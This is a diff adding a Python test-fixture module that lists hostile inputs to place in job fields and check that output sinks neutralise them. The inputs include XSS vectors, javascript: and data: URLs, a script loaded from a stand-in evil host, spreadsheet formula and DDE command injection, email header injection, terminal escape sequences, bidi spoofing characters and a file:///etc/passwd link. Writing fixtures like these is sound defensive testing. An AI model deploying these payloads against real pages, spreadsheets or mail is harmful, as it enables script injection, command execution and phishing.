@@ -1,0 +1,66 @@
+"""What people have tried to get into other people's pages, messages, terminals and spreadsheets.
+
+Each stands in every field of a job. `{n}` becomes a word to find it again, so that no sink passes by leaving it out.
+"""
+
+from __future__ import annotations
+
+PAYLOADS: tuple[str, ...] = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<body onpageshow=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
+    "<form action=javascript:alert(1)><button>go</button></form>",
+    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<a href='javascript:alert(1)'>apply</a>",
+    '<a href="java\tscript:alert(1)">apply</a>',
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    '" style="background:url(javascript:alert(1))',
+    "</title></head><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "]]><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
+    "[apply](javascript:alert(1)) ![x](data:text/html,x)",
+    "`code` **bold** | cell | <b>bold</b>",
+    "=HYPERLINK(\"http://evil.example\",\"open\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Subject\r\nBcc: everybody@evil.example\r\n\r\nbody",
+    "\x1b[2J\x1b[1;31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x07",
+    "\x9b31m\x90q\x9c\x00\x08\x08\x7f",
+    "\u202egnp.exe\u2066hidden\u2069 \u200b\u200d\ufeff\U000e0041\U000e0042",
+    "line\u2028separator\u2029paragraph\x85next\x0bvt\x0cff",
+    "<b><i><u>unclosed <a href='https://evil.example/'>tags",
+    "\ud83d\ude00 \ud800 half a character",
+)  # fmt: skip
+
+LINKS: tuple[str, ...] = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\nscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "//evil.example/x",
+    "https://user:password@jobs.example/",
+    "https://jobs.example/\"onmouseover=\"alert(1)",
+    "https://jobs.example/'><script>alert(1)</script>",
+    "https://jobs.example/\x1b[2J",
+    "https://jobs.example/\u202egnp.exe",
+    "https://jobs.example/ https://evil.example/",
+    "https://[::1",
+    "tg://resolve?domain=evil",
+)  # fmt: skip
